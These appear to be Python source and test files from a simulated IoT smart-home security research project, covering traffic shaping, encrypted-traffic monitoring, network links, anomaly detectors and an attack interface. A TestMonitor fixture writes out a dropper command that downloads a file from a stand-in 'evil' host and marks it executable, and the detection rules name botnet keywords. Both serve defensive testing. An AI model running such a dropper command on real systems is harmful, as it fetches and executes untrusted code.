    def test_off_config_not_enabled(self):
        assert not ShapingConfig.off().enabled
        assert ShapingConfig.delays_only().enabled
        assert ShapingConfig.full().enabled

    def test_delays_within_bound(self):
        sim = Simulator(seed=3)
        shaper = TrafficShaper(sim, ShapingConfig.delays_only(2.0))
        for _ in range(50):
            emissions = shaper(make_packet(), "outbound")
            assert len(emissions) == 1
            delay, _ = emissions[0]
            assert 0.0 <= delay <= 2.0
        assert shaper.mean_added_delay > 0

    def test_cover_traffic_rate(self):
        sim = Simulator(seed=3)
        shaper = TrafficShaper(sim, ShapingConfig.cover_only(rate=1.0))
        total_cover = 0
        for _ in range(100):
            emissions = shaper(make_packet(), "outbound")
            total_cover += sum(p.is_cover_traffic for _, p in emissions)
        assert total_cover == 100  # rate 1.0 = exactly one per packet
        assert shaper.bandwidth_overhead == pytest.approx(1.0)

    def test_fractional_cover_rate(self):
        sim = Simulator(seed=3)
        shaper = TrafficShaper(sim, ShapingConfig(cover_traffic_rate=0.5))
        covers = 0
        for _ in range(400):
            emissions = shaper(make_packet(), "outbound")
            covers += sum(p.is_cover_traffic for _, p in emissions)
        assert 120 <= covers <= 280  # ~0.5 rate, generous bounds

    def test_padding(self):
        sim = Simulator()
        shaper = TrafficShaper(sim, ShapingConfig(pad_to_bytes=512))
        emissions = shaper(make_packet(size_bytes=100), "outbound")
        assert emissions[0][1].size_bytes == 512
        assert shaper.padding_bytes == 412
        # Already-large packets untouched.
        emissions = shaper(make_packet(size_bytes=900), "outbound")
        assert emissions[0][1].size_bytes == 900

    def test_cover_not_reshaped(self):
        sim = Simulator()
        shaper = TrafficShaper(sim, ShapingConfig.full())
        cover = make_packet(is_cover_traffic=True)
        emissions = shaper(cover, "outbound")
        assert emissions == [(0.0, cover)]

    def test_cover_packets_clone_real_sizes(self):
        """Chaff must be indistinguishable by size from real packets."""
        sim = Simulator(seed=1)
        shaper = TrafficShaper(sim, ShapingConfig.cover_only(1.0))
        emissions = shaper(make_packet(size_bytes=333), "outbound")
        cover = [p for _, p in emissions if p.is_cover_traffic]
        assert cover[0].size_bytes == 333

    def test_determinism_per_seed(self):
        def run(seed):
            sim = Simulator(seed=seed)
            shaper = TrafficShaper(sim, ShapingConfig.full())
            out = []
            for _ in range(20):
                out.append(tuple(
                    (round(d, 9), p.is_cover_traffic)
                    for d, p in shaper(make_packet(), "outbound")
                ))
            return out

        assert run(7) == run(7)
        assert run(7) != run(8)


class TestMonitor:
    def test_plaintext_keyword_match(self):
        sim = Simulator()
        monitor = EncryptedTrafficMonitor(sim)
        packet = make_packet(
            payload={"cmd": "wget http://evil/x; chmod +x x"},
            encrypted=False)
        rule = monitor.inspect(packet)
        assert rule is not None and rule.name == "shell-dropper"

    def test_all_keywords_required(self):
        sim = Simulator()
        monitor = EncryptedTrafficMonitor(sim)
        packet = make_packet(payload={"cmd": "wget alone"}, encrypted=False)
        assert monitor.inspect(packet) is None

    def test_benign_traffic_passes(self):
        sim = Simulator()
        monitor = EncryptedTrafficMonitor(sim)
        packet = make_packet(payload={"kind": "telemetry", "state": "on"},
                             encrypted=False)
        emissions = monitor(packet, "outbound")
        assert len(emissions) == 1

    def test_opaque_encrypted_unmatchable(self):
        sim = Simulator()
        monitor = EncryptedTrafficMonitor(sim)
        packet = make_packet(payload={"cmd": "wget x; chmod y"},
                             encrypted=True)
        assert monitor.inspect(packet) is None
        assert monitor.opaque_packets == 1

    def test_blindbox_token_match(self):
        sim = Simulator()
        token_key = b"shared-middlebox-key"
        monitor = EncryptedTrafficMonitor(sim, token_key=token_key)
        ca = CertificateAuthority()
        cert = ca.issue("updates.example.com", b"pub")
        session = TlsSession.handshake(b"s", cert, ca, token_key=token_key)
        record = session.wrap(b"payload", keywords=["wget", "chmod", "foo"])
        packet = make_packet(payload=record, encrypted=True)
        rule = monitor.inspect(packet)
        assert rule is not None and rule.name == "shell-dropper"

    def test_blindbox_clean_record_passes(self):
        sim = Simulator()
        token_key = b"shared-middlebox-key"
        monitor = EncryptedTrafficMonitor(sim, token_key=token_key)
        ca = CertificateAuthority()
        session = TlsSession.handshake(
            b"s", ca.issue("u.example.com", b"p"), ca, token_key=token_key)
        record = session.wrap(b"payload", keywords=["version", "update"])
        assert monitor.inspect(make_packet(payload=record, encrypted=True)) is None

    def test_middleware_blocks_and_reports(self):
        sim = Simulator()
        signals = []
        monitor = EncryptedTrafficMonitor(sim, report=signals.append)
        bad = make_packet(payload={"x": "mirai loader"}, encrypted=False)
        assert monitor(bad, "outbound") == []
        assert monitor.matches
        assert signals[0].signal_type.value == "c2_keyword"

    def test_non_blocking_mode(self):
        sim = Simulator()
        monitor = EncryptedTrafficMonitor(sim, block_matches=False)
        bad = make_packet(payload={"x": "mirai loader"}, encrypted=False)
        assert len(monitor(bad, "outbound")) == 1

    def test_rule_requires_keywords(self):
        with pytest.raises(ValueError):
            DetectionRule("empty", ())

    def test_default_rules_cover_botnet_lifecycle(self):
        names = {r.name for r in DEFAULT_RULES}
        assert {"shell-dropper", "c2-beacon", "mirai-loader",
                "flood-command"} <= names
