"""Nodes, interfaces, and shared links.

A :class:`Link` is a shared medium (one WiFi LAN, one ZigBee PAN, the
WAN uplink).  Interfaces attach nodes to links.  Delivery is by
destination address, with an optional *default route* interface (the
gateway) picking up packets addressed off-link.  Links expose read-only
observer taps — the hook both the XLF network monitor and the
passive-adversary models use, which keeps defenders and attackers
honest: they see exactly the same traffic.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

from repro.network.links import LinkTechnology, get_link_technology
from repro.network.packet import Packet
from repro.sim import Simulator
from repro import telemetry as _telemetry


class NetworkError(RuntimeError):
    """Raised for network misconfiguration."""


class Link:
    """A shared medium connecting interfaces."""

    def __init__(self, sim: Simulator, technology, name: str = "link",
                 loss_rate: float = 0.0):
        if not 0.0 <= loss_rate < 1.0:
            raise NetworkError(f"loss rate must be in [0, 1), got {loss_rate}")
        self.sim = sim
        self.technology: LinkTechnology = (
            technology if isinstance(technology, LinkTechnology)
            else get_link_technology(technology)
        )
        self.name = name
        self.loss_rate = loss_rate
        # Fault-injection hooks: a downed link carries nothing, and
        # extra_latency_s stretches every transmission (WAN latency
        # spikes).  Both are flipped by repro.faults at runtime.
        self.up = True
        self.extra_latency_s = 0.0
        self._loss_rng = sim.rng.stream(f"link-loss:{name}")
        self._interfaces: Dict[str, "Interface"] = {}
        self._default_route: Optional["Interface"] = None
        self._observers: List[Callable[[Packet], None]] = []
        self.packets_carried = 0
        self.bytes_carried = 0
        self.packets_dropped = 0
        self.packets_lost = 0

    def attach(self, interface: "Interface", default_route: bool = False) -> None:
        if interface.address in self._interfaces:
            raise NetworkError(
                f"address {interface.address} already attached to {self.name}"
            )
        self._interfaces[interface.address] = interface
        if default_route:
            self._default_route = interface

    def detach(self, interface: "Interface") -> None:
        self._interfaces.pop(interface.address, None)
        if self._default_route is interface:
            self._default_route = None

    def add_observer(self, observer: Callable[[Packet], None]) -> None:
        """Register a passive tap; called for every packet the link carries."""
        self._observers.append(observer)

    def remove_observer(self, observer: Callable[[Packet], None]) -> None:
        """Remove a previously registered tap (first occurrence); unknown
        observers are ignored so detach paths stay idempotent."""
        try:
            self._observers.remove(observer)
        except ValueError:
            pass

    def addresses(self) -> List[str]:
        return sorted(self._interfaces)

    def transmit(self, packet: Packet, sender: Optional["Interface"] = None) -> bool:
        """Carry ``packet`` to its destination on this link.

        Returns True if a receiver (or the default route) accepted it.
        """
        packet.sent_at = self.sim.now
        if not self.up:
            # A downed medium: senders see a failed transmit, observers
            # see nothing (which is what silences the network layer).
            self.packets_lost += 1
            if _telemetry.ENABLED:
                _telemetry.registry().counter("net.link.down_drops",
                                              link=self.name).inc()
            return False
        delay = self.technology.transmit_time(packet.size_bytes) \
            + self.extra_latency_s
        for observer in self._observers:
            observer(packet)
        self.packets_carried += 1
        self.bytes_carried += packet.size_bytes
        if _telemetry.ENABLED:
            registry = _telemetry.registry()
            registry.counter("net.link.packets", link=self.name).inc()
            registry.counter("net.link.bytes",
                             link=self.name).inc(packet.size_bytes)
        if sender is not None and sender.node is not None:
            sender.node.on_transmit(packet, self.technology)
        target = self._interfaces.get(packet.dst)
        if target is None:
            target = self._default_route
        if target is None or target is sender:
            self.packets_dropped += 1
            if _telemetry.ENABLED:
                _telemetry.registry().counter("net.link.dropped",
                                              link=self.name).inc()
            return False
        if self.loss_rate > 0 and self._loss_rng.random() < self.loss_rate:
            self.packets_lost += 1
            if _telemetry.ENABLED:
                _telemetry.registry().counter("net.link.lost",
                                              link=self.name).inc()
            return False
        self.sim.call_in(delay, lambda: target.deliver(packet))
        return True


class Interface:
    """Attachment point of a node on a link."""

    def __init__(self, node: "Node", link: Link, address: str,
                 default_route: bool = False):
        self.node = node
        self.link = link
        self.address = address
        self.up = True
        link.attach(self, default_route=default_route)

    def send(self, packet: Packet) -> bool:
        if not self.up:
            return False
        return self.link.transmit(packet, sender=self)

    def deliver(self, packet: Packet) -> None:
        if not self.up:
            return
        now = self.node.sim.now
        packet.delivered_at = now
        if _telemetry.ENABLED:
            # The link stamped sent_at at transmit; close the packet's
            # path span in sim time at the moment of delivery.
            registry = _telemetry.registry()
            registry.histogram("net.deliver_latency_s",
                               link=self.link.name).observe(
                                   now - packet.sent_at)
            registry.record_span("net.deliver", packet.sent_at, now,
                                 link=self.link.name, dst=self.node.name)
        self.node.receive(packet, self)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"<Interface {self.address} on {self.link.name}>"


class Node:
    """Base class for anything with a network presence.

    Subclasses register port handlers with :meth:`bind` or override
    :meth:`handle_packet` for promiscuous handling.
    """

    def __init__(self, sim: Simulator, name: str):
        self.sim = sim
        self.name = name
        self.interfaces: List[Interface] = []
        self._port_handlers: Dict[int, Callable[[Packet, Interface], None]] = {}
        self.packets_received = 0
        self.packets_sent = 0

    # -- wiring ------------------------------------------------------------
    def add_interface(self, link: Link, address: str,
                      default_route: bool = False) -> Interface:
        interface = Interface(self, link, address, default_route=default_route)
        self.interfaces.append(interface)
        return interface

    @property
    def address(self) -> str:
        """Primary address (first interface)."""
        if not self.interfaces:
            raise NetworkError(f"node {self.name} has no interface")
        return self.interfaces[0].address

    def interface_for(self, dst: str) -> Optional[Interface]:
        """Interface whose link can reach ``dst`` directly, else first."""
        for interface in self.interfaces:
            if dst in interface.link._interfaces:
                return interface
        return self.interfaces[0] if self.interfaces else None

    # -- traffic -----------------------------------------------------------
    def bind(self, port: int, handler: Callable[[Packet, Interface], None]) -> None:
        if port in self._port_handlers:
            raise NetworkError(f"{self.name}: port {port} already bound")
        self._port_handlers[port] = handler

    def unbind(self, port: int) -> None:
        self._port_handlers.pop(port, None)

    @property
    def open_ports(self) -> List[int]:
        return sorted(self._port_handlers)

    def send(self, packet: Packet) -> bool:
        interface = self.interface_for(packet.dst)
        if interface is None:
            return False
        if not packet.src:
            packet.src = interface.address
        if not packet.src_device:
            packet.src_device = self.name
        self.packets_sent += 1
        return interface.send(packet)

    def receive(self, packet: Packet, interface: Interface) -> None:
        self.packets_received += 1
        handler = self._port_handlers.get(packet.dport)
        if handler is not None:
            handler(packet, interface)
        else:
            self.handle_packet(packet, interface)

    def handle_packet(self, packet: Packet, interface: Interface) -> None:
        """Fallback for packets with no bound port; default drops."""

    def on_transmit(self, packet: Packet, technology: LinkTechnology) -> None:
        """Hook for energy accounting; device layer overrides."""

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"<{type(self).__name__} {self.name}>"
