"""Tests for nodes, interfaces, and link delivery."""

import pytest

from repro.network import Link, Node, Packet
from repro.network.node import NetworkError
from repro.sim import Simulator


def make_lan(sim):
    return Link(sim, "wifi", name="lan")


class Recorder(Node):
    def __init__(self, sim, name):
        super().__init__(sim, name)
        self.seen = []

    def handle_packet(self, packet, interface):
        self.seen.append(packet)


def test_delivery_by_address():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    b = Recorder(sim, "b")
    a.add_interface(lan, "10.0.0.2")
    b.add_interface(lan, "10.0.0.3")
    a.send(Packet(src="", dst="10.0.0.3", size_bytes=100))
    sim.run()
    assert len(b.seen) == 1
    assert b.seen[0].src == "10.0.0.2"
    assert b.seen[0].src_device == "a"
    assert not a.seen


def test_delivery_latency_matches_technology():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    b = Recorder(sim, "b")
    a.add_interface(lan, "x")
    b.add_interface(lan, "y")
    a.send(Packet(src="", dst="y", size_bytes=1000))
    sim.run()
    expected = lan.technology.transmit_time(1000)
    assert b.seen[0].delivered_at == pytest.approx(expected)


def test_unknown_destination_dropped_and_counted():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    a.add_interface(lan, "x")
    assert a.send(Packet(src="", dst="nowhere")) is False
    sim.run()
    assert lan.packets_dropped == 1


def test_default_route_picks_up_offlink_traffic():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    gw = Recorder(sim, "gw")
    a.add_interface(lan, "x")
    gw.add_interface(lan, "gw-addr", default_route=True)
    a.send(Packet(src="", dst="8.8.8.8"))
    sim.run()
    assert len(gw.seen) == 1


def test_sender_not_its_own_default_route():
    sim = Simulator()
    lan = make_lan(sim)
    gw = Recorder(sim, "gw")
    gw.add_interface(lan, "gw-addr", default_route=True)
    assert gw.send(Packet(src="", dst="8.8.8.8")) is False


def test_duplicate_address_rejected():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    b = Recorder(sim, "b")
    a.add_interface(lan, "same")
    with pytest.raises(NetworkError):
        b.add_interface(lan, "same")


def test_port_handler_dispatch():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    b = Recorder(sim, "b")
    a.add_interface(lan, "x")
    b.add_interface(lan, "y")
    hits = []
    b.bind(80, lambda p, i: hits.append(p))
    a.send(Packet(src="", dst="y", dport=80))
    a.send(Packet(src="", dst="y", dport=81))
    sim.run()
    assert len(hits) == 1
    assert len(b.seen) == 1  # the unbound port fell through to handle_packet


def test_double_bind_rejected_and_unbind():
    sim = Simulator()
    node = Recorder(sim, "n")
    node.bind(80, lambda p, i: None)
    with pytest.raises(NetworkError):
        node.bind(80, lambda p, i: None)
    node.unbind(80)
    node.bind(80, lambda p, i: None)
    assert node.open_ports == [80]


def test_observers_see_all_traffic():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    b = Recorder(sim, "b")
    a.add_interface(lan, "x")
    b.add_interface(lan, "y")
    observed = []
    lan.add_observer(observed.append)
    a.send(Packet(src="", dst="y"))
    a.send(Packet(src="", dst="missing"))  # dropped but still observed
    sim.run()
    assert len(observed) == 2
    assert lan.packets_carried == 2


def test_interface_down_blocks_send_and_receive():
    sim = Simulator()
    lan = make_lan(sim)
    a = Recorder(sim, "a")
    b = Recorder(sim, "b")
    ia = a.add_interface(lan, "x")
    ib = b.add_interface(lan, "y")
    ib.up = False
    a.send(Packet(src="", dst="y"))
    sim.run()
    assert not b.seen
    ia.up = False
    assert a.send(Packet(src="", dst="y")) is False


def test_node_without_interface_has_no_address():
    sim = Simulator()
    node = Recorder(sim, "bare")
    with pytest.raises(NetworkError):
        _ = node.address
    assert node.send(Packet(src="", dst="y")) is False
