"""The Core's signal bus: where every layer's observations aggregate."""

from __future__ import annotations

from collections import defaultdict
from typing import Callable, Dict, List, Optional

from repro.core.signals import Layer, SecuritySignal, SignalType
from repro.sim import Simulator
from repro import telemetry as _telemetry


class CoreBus:
    """Collects signals from all layers and fans them out to analyses."""

    def __init__(self, sim: Simulator):
        self.sim = sim
        self.signals: List[SecuritySignal] = []
        self._listeners: List[Callable[[SecuritySignal], None]] = []
        self._by_device: Dict[str, List[SecuritySignal]] = defaultdict(list)

    def report(self, signal: SecuritySignal) -> None:
        self.signals.append(signal)
        if signal.device:
            self._by_device[signal.device].append(signal)
        if _telemetry.ENABLED:
            _telemetry.registry().counter(
                "core.signals", layer=signal.layer.value,
                type=signal.signal_type.value).inc()
        for listener in self._listeners:
            listener(signal)

    def subscribe(self, listener: Callable[[SecuritySignal], None]) -> None:
        self._listeners.append(listener)

    def unsubscribe(self, listener: Callable[[SecuritySignal], None]) -> None:
        """Remove a listener; unknown listeners are ignored."""
        try:
            self._listeners.remove(listener)
        except ValueError:
            pass

    # -- queries --------------------------------------------------------------
    def signals_for(self, device: str) -> List[SecuritySignal]:
        return list(self._by_device.get(device, []))

    def signals_in_window(self, device: str, end: float,
                          window_s: float,
                          include_global: bool = True) -> List[SecuritySignal]:
        """Signals for ``device`` within the window.

        Global signals (``device == ""``, e.g. API abuse tied to a user
        rather than a device) corroborate any device when
        ``include_global`` is set — a credential attack shows up as
        device-side auth failures *and* user-side API probing.
        """
        start = end - window_s
        result = [s for s in self._by_device.get(device, [])
                  if start <= s.timestamp <= end]
        if include_global and device:
            result.extend(
                s for s in self.signals
                if not s.device and start <= s.timestamp <= end
            )
            result.sort(key=lambda s: s.timestamp)
        return result

    def count_by_type(self, signal_type: SignalType,
                      device: Optional[str] = None) -> int:
        pool = self._by_device.get(device, []) if device else self.signals
        return sum(1 for s in pool if s.signal_type == signal_type)

    def layers_reporting(self, device: str) -> List[Layer]:
        return sorted({s.layer for s in self._by_device.get(device, [])},
                      key=lambda layer: layer.value)

    def clear(self) -> None:
        self.signals.clear()
        self._by_device.clear()
