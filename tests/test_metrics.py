"""Tests for the evaluation metrics module."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.metrics import (
    DetectionMetrics,
    OverheadMetrics,
    classification_accuracy,
    format_table,
    score_detection,
    time_to_detection,
)


class TestDetectionMetrics:
    def test_perfect_detection(self):
        metrics = score_detection({"a", "b"}, {"a", "b"})
        assert metrics.precision == 1.0
        assert metrics.recall == 1.0
        assert metrics.f1 == 1.0

    def test_partial_detection(self):
        metrics = score_detection({"a", "c"}, {"a", "b"})
        assert metrics.true_positives == 1
        assert metrics.false_positives == 1
        assert metrics.false_negatives == 1
        assert metrics.precision == 0.5
        assert metrics.recall == 0.5
        assert metrics.f1 == 0.5

    def test_empty_detection(self):
        metrics = score_detection(set(), {"a"})
        assert metrics.precision == 0.0
        assert metrics.recall == 0.0
        assert metrics.f1 == 0.0

    def test_empty_truth(self):
        metrics = score_detection({"a"}, set())
        assert metrics.precision == 0.0
        assert metrics.recall == 0.0

    def test_as_row(self):
        row = DetectionMetrics(2, 1, 1).as_row()
        assert row["tp"] == 2 and row["precision"] == pytest.approx(0.667)

    @given(st.sets(st.text(max_size=5), max_size=10),
           st.sets(st.text(max_size=5), max_size=10))
    def test_counts_partition(self, detected, truth):
        metrics = score_detection(detected, truth)
        assert metrics.true_positives + metrics.false_positives == \
            len(detected)
        assert metrics.true_positives + metrics.false_negatives == len(truth)
        assert 0.0 <= metrics.f1 <= 1.0


class TestOtherMetrics:
    def test_classification_accuracy(self):
        assert classification_accuracy([1, 2, 3], [1, 2, 4]) == \
            pytest.approx(2 / 3)
        assert classification_accuracy([], []) == 0.0
        with pytest.raises(ValueError):
            classification_accuracy([1], [1, 2])

    def test_time_to_detection(self):
        assert time_to_detection(10.0, [5.0, 12.0, 20.0]) == 2.0
        assert time_to_detection(10.0, [5.0]) is None
        assert time_to_detection(10.0, []) is None
        assert time_to_detection(10.0, [10.0]) == 0.0

    def test_overhead_metrics_row(self):
        row = OverheadMetrics(1.5, 0.25).as_row()
        assert row == {"bandwidth_overhead": 1.5,
                       "mean_added_latency_s": 0.25}


class TestFormatTable:
    def test_alignment_and_title(self):
        text = format_table(["a", "bbbb"], [[1, 2], [333, 4]], title="T")
        lines = text.splitlines()
        assert lines[0] == "T"
        assert "a" in lines[1] and "bbbb" in lines[1]
        assert all("|" in line for line in lines[1:] if "-+-" not in line)
        # Columns aligned: every row has the separator at the same offset.
        offsets = {line.index("|") for line in lines[1:] if "|" in line}
        assert len(offsets) == 1

    def test_empty_rows(self):
        text = format_table(["col"], [])
        assert "col" in text

    def test_short_rows_padded_with_empty_cells(self):
        text = format_table(["a", "b", "c"], [[1], [2, 3]])
        lines = text.splitlines()
        # Every data line still has all column separators.
        assert all(line.count("|") == 2 for line in lines
                   if "-+-" not in line)
        offsets = {line.index("|") for line in lines if "|" in line}
        assert len(offsets) == 1

    def test_empty_row_padded(self):
        text = format_table(["a", "b"], [[]])
        assert "|" in text.splitlines()[-1]

    def test_overlong_row_raises_value_error(self):
        with pytest.raises(ValueError, match="row 1 has 3 cells"):
            format_table(["a", "b"], [[1, 2], [1, 2, 3]])

    def test_input_rows_not_mutated(self):
        rows = [[1]]
        format_table(["a", "b"], rows)
        assert rows == [[1]]
