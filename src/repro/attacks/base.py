"""Common attack interface.

Attacks depend on the narrow :class:`HomeLike` protocol rather than the
concrete :class:`repro.scenarios.smarthome.SmartHome` — any world that
exposes a simulator, devices, links, a gateway, and a cloud can be
attacked, and the ``attacks`` package never imports ``scenarios``
(which *does* import attacks, e.g. in the fleet runner).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Protocol, Set, Tuple, runtime_checkable


@runtime_checkable
class HomeLike(Protocol):
    """What an attack needs from the world it targets.

    Structural: :class:`~repro.scenarios.smarthome.SmartHome` satisfies
    it without inheriting from it, and so can any purpose-built test
    substrate.  Attribute types are deliberately loose — an attack
    treats the world as opaque handles, not as the concrete classes.
    """

    sim: Any                        # repro.sim.Simulator
    devices: List[Any]              # [IoTDevice]
    device_ids: Dict[str, str]      # device name -> cloud id
    gateway: Any                    # repro.network.gateway.Gateway
    cloud: Any                      # repro.service.cloud.CloudPlatform
    environment: Any                # repro.device.sensors.Environment
    internet: Any                   # repro.network.internet.Internet
    dns_server: Any                 # public DNS authority
    lan_links: Dict[str, Any]       # technology -> Link
    vendor_addresses: Dict[str, str]
    firmware_signers: Dict[str, Any]
    config: Any                     # SmartHomeConfig-ish

    def device(self, name: str) -> Any: ...

    def devices_of_type(self, type_name: str) -> List[Any]: ...

    def run(self, until: float) -> None: ...

    @property
    def all_lan_links(self) -> List[Any]: ...


@runtime_checkable
class FleetLike(HomeLike, Protocol):
    """A home embedded in a fleet: everything :class:`HomeLike` offers
    plus a :class:`~repro.network.internet.WanExchangePort` for
    cross-home WAN traffic.  The lockstep-epoch engine
    (:mod:`repro.scenarios.exchange`) attaches the port as
    ``home.fleet`` before any attack is constructed."""

    fleet: Any                      # repro.network.internet.WanExchangePort


@dataclass
class AttackOutcome:
    """What the attack achieved, by its own ground truth."""

    succeeded: bool
    compromised_devices: Set[str] = field(default_factory=set)
    details: Dict[str, object] = field(default_factory=dict)


class Attack:
    """Base class: launch against a home-like world, then report the outcome."""

    name: str = "abstract-attack"
    # The paper's layer mapping (Fig. 3): which layers' attack surface
    # this attack exercises.
    surface_layers: Tuple[str, ...] = ()
    # The Table II row shape: (vulnerability, attack, impact).
    table_ii_row: Tuple[str, str, str] = ("", "", "")
    # Registry scope flag: cross-home attacks are instantiated in EVERY
    # fleet home (one instance per home, coordinating over the exchange
    # port), not just the AttackSpec's target home — which becomes the
    # attack's *origin* (patient zero, flood coordinator, ...).
    cross_home: bool = False

    def __init__(self, home: HomeLike):
        self.home = home
        self.sim = home.sim
        self.launched_at: float = -1.0
        # The exchange port (None outside a fleet context).  Cross-home
        # attacks always get one: outside the epoch engine they fall
        # back to a solo port so single-home specs run unchanged.
        self.fleet = getattr(home, "fleet", None)
        if self.cross_home and self.fleet is None:
            from repro.network.internet import WanExchangePort
            self.fleet = WanExchangePort(home_index=0, n_homes=1,
                                         epoch_s=30.0)
        # Which home the AttackSpec targeted; the scenario engine
        # overwrites this before launch().  The origin instance drives
        # the campaign; the others react to exchange messages.
        self.origin_home: int = (self.fleet.home_index
                                 if self.fleet is not None else 0)

    @property
    def is_origin(self) -> bool:
        return (self.fleet is None
                or self.fleet.home_index == self.origin_home)

    def launch(self) -> None:
        """Schedule the attack's behaviour; does not run the sim."""
        self.launched_at = self.sim.now
        self._launch()

    def _launch(self) -> None:
        raise NotImplementedError

    def outcome(self) -> AttackOutcome:
        raise NotImplementedError
