"""Malicious-activity identification (paper §IV-B.3).

Three detectors over the gateway's view of traffic:

* **DFA behavior profiles** — per device type, the expected state
  machine and expected destinations; traffic inconsistent with the
  profile (new destinations, impossible transitions) is a deviation.
* **Scan detection** — an infected device probing many distinct
  addresses/ports in a short window (Mirai's propagation phase).
* **DDoS detection** — sustained high packet rate from one device to
  one target.

All three raise :class:`SecuritySignal`s; none of them alone proves
infection — that synthesis is the Core's job.
"""

from __future__ import annotations

from collections import defaultdict, deque
from dataclasses import dataclass, field
from typing import Callable, Deque, Dict, List, Optional, Set, Tuple

from repro.core.plugin import SecurityFunction, register
from repro.core.signals import Layer, SecuritySignal, Severity, SignalType
from repro.network.packet import Packet
from repro.sim import Simulator


@dataclass
class DeviceBehaviorProfile:
    """The DFA of a device type's normal behaviour."""

    device_type: str
    states: Tuple[str, ...]
    transitions: Set[Tuple[str, str]]          # allowed (from, to)
    allowed_destinations: Set[str] = field(default_factory=set)
    allowed_ports: Set[int] = field(default_factory=set)
    max_packets_per_minute: float = 600.0

    def transition_allowed(self, from_state: str, to_state: str) -> bool:
        return (from_state, to_state) in self.transitions or from_state == to_state

    @staticmethod
    def from_device_spec(spec, cloud_addresses: Set[str]) -> "DeviceBehaviorProfile":
        """Build the DFA from a DeviceSpec: commands define the edges."""
        transitions = set()
        for command, target in spec.commands.items():
            for state in spec.states:
                transitions.add((state, target))
        return DeviceBehaviorProfile(
            device_type=spec.type_name,
            states=spec.states,
            transitions=transitions,
            allowed_destinations=set(cloud_addresses),
            allowed_ports={8883, 9000, 53, 443, 853},
        )


@dataclass
class _DeviceWindow:
    """Sliding window of one device's recent traffic."""

    timestamps: Deque[float] = field(default_factory=deque)
    destinations: Deque[Tuple[float, str, int]] = field(default_factory=deque)


class MaliciousActivityDetector:
    """Observer over gateway-visible links."""

    SCAN_WINDOW_S = 30.0
    SCAN_DISTINCT_TARGETS = 8
    DDOS_WINDOW_S = 10.0
    DDOS_PACKETS = 150

    def __init__(self, sim: Simulator,
                 report: Optional[Callable[[SecuritySignal], None]] = None):
        self.sim = sim
        self._report = report or (lambda signal: None)
        self._profiles: Dict[str, DeviceBehaviorProfile] = {}   # device name ->
        self._windows: Dict[str, _DeviceWindow] = defaultdict(_DeviceWindow)
        self._last_state: Dict[str, str] = {}
        self._scan_flagged: Dict[str, float] = {}
        self._ddos_flagged: Dict[str, float] = {}
        self._destination_flagged: Dict[Tuple[str, str], float] = {}
        self.DESTINATION_COOLDOWN_S = 60.0
        self.deviations: List[Tuple[float, str, str]] = []  # (t, device, kind)

    def register_device(self, device_name: str,
                        profile: DeviceBehaviorProfile) -> None:
        self._profiles[device_name] = profile
        self._last_state[device_name] = profile.states[0] if profile.states else ""

    # -- observer ---------------------------------------------------------------
    def observe(self, packet: Packet) -> None:
        device = packet.src_device
        if device not in self._profiles or packet.is_cover_traffic:
            return
        now = self.sim.now
        window = self._windows[device]
        window.timestamps.append(now)
        window.destinations.append((now, packet.dst, packet.dport))
        self._trim(window, now)
        self._check_destination(device, packet, now)
        self._check_scan(device, window, now)
        self._check_ddos(device, window, now)
        self._check_state_claim(device, packet, now)

    def _trim(self, window: _DeviceWindow, now: float) -> None:
        horizon = now - max(self.SCAN_WINDOW_S, self.DDOS_WINDOW_S)
        while window.timestamps and window.timestamps[0] < horizon:
            window.timestamps.popleft()
        while window.destinations and window.destinations[0][0] < horizon:
            window.destinations.popleft()

    def _check_destination(self, device: str, packet: Packet,
                           now: float) -> None:
        profile = self._profiles[device]
        if not profile.allowed_destinations:
            return
        if packet.dst in profile.allowed_destinations:
            return
        if packet.dst.startswith("10.0.0."):
            return  # LAN chatter judged by scan logic instead
        key = (device, packet.dst)
        last = self._destination_flagged.get(key, -1e18)
        if now - last < self.DESTINATION_COOLDOWN_S:
            return
        self._destination_flagged[key] = now
        self.deviations.append((now, device, "unknown-destination"))
        self._report(SecuritySignal.make(
            Layer.NETWORK, SignalType.UNKNOWN_DESTINATION,
            "activity-detector", device, now,
            severity=Severity.WARNING, destination=packet.dst,
        ))

    def _check_scan(self, device: str, window: _DeviceWindow,
                    now: float) -> None:
        recent = [(d, p) for t, d, p in window.destinations
                  if t >= now - self.SCAN_WINDOW_S]
        distinct = {d for d, _p in recent}
        if len(distinct) < self.SCAN_DISTINCT_TARGETS:
            return
        last = self._scan_flagged.get(device, -1e9)
        if now - last < self.SCAN_WINDOW_S:
            return  # one signal per window
        self._scan_flagged[device] = now
        self.deviations.append((now, device, "scan"))
        self._report(SecuritySignal.make(
            Layer.NETWORK, SignalType.SCAN_PATTERN, "activity-detector",
            device, now, severity=Severity.CRITICAL,
            distinct_targets=len(distinct),
        ))

    def _check_ddos(self, device: str, window: _DeviceWindow,
                    now: float) -> None:
        recent = [t for t in window.timestamps if t >= now - self.DDOS_WINDOW_S]
        if len(recent) < self.DDOS_PACKETS:
            return
        # Dominated by one target?
        targets = defaultdict(int)
        for t, d, _p in window.destinations:
            if t >= now - self.DDOS_WINDOW_S:
                targets[d] += 1
        top_target, top_count = max(targets.items(), key=lambda kv: kv[1])
        if top_count < 0.8 * len(recent):
            return
        last = self._ddos_flagged.get(device, -1e9)
        if now - last < self.DDOS_WINDOW_S:
            return
        self._ddos_flagged[device] = now
        self.deviations.append((now, device, "ddos"))
        self._report(SecuritySignal.make(
            Layer.NETWORK, SignalType.DDOS_PATTERN, "activity-detector",
            device, now, severity=Severity.CRITICAL,
            target=top_target, packets=top_count,
        ))

    def _check_state_claim(self, device: str, packet: Packet,
                           now: float) -> None:
        """Validate state transitions the device reports against its DFA."""
        payload = packet.payload
        if not isinstance(payload, dict):
            return
        claimed = None
        if payload.get("kind") == "telemetry":
            claimed = payload.get("state")
